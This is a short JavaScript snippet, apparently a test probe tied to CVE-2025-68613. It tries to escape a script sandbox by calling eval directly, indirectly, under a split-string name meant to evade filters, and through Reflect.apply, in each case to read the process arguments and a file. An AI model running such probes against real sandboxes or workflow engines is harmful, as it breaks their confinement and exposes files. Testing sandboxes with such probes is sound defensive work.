// Tries: eval, direct and indirect.
// Origin: CVE-2025-68613; the oldest way.

const found = [];
for (const run of [() => eval("[Deno.args, Deno.readTextFileSync(input.file)]"), () => (0, eval)("[Deno.args, Deno.readTextFileSync(input.file)]"), () => globalThis["ev" + "al"]("[Deno.args, Deno.readTextFileSync(input.file)]"), () => Reflect.apply(eval, null, ["[Deno.args, Deno.readTextFileSync(input.file)]"])]) {
  try {
    found.push(run());
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
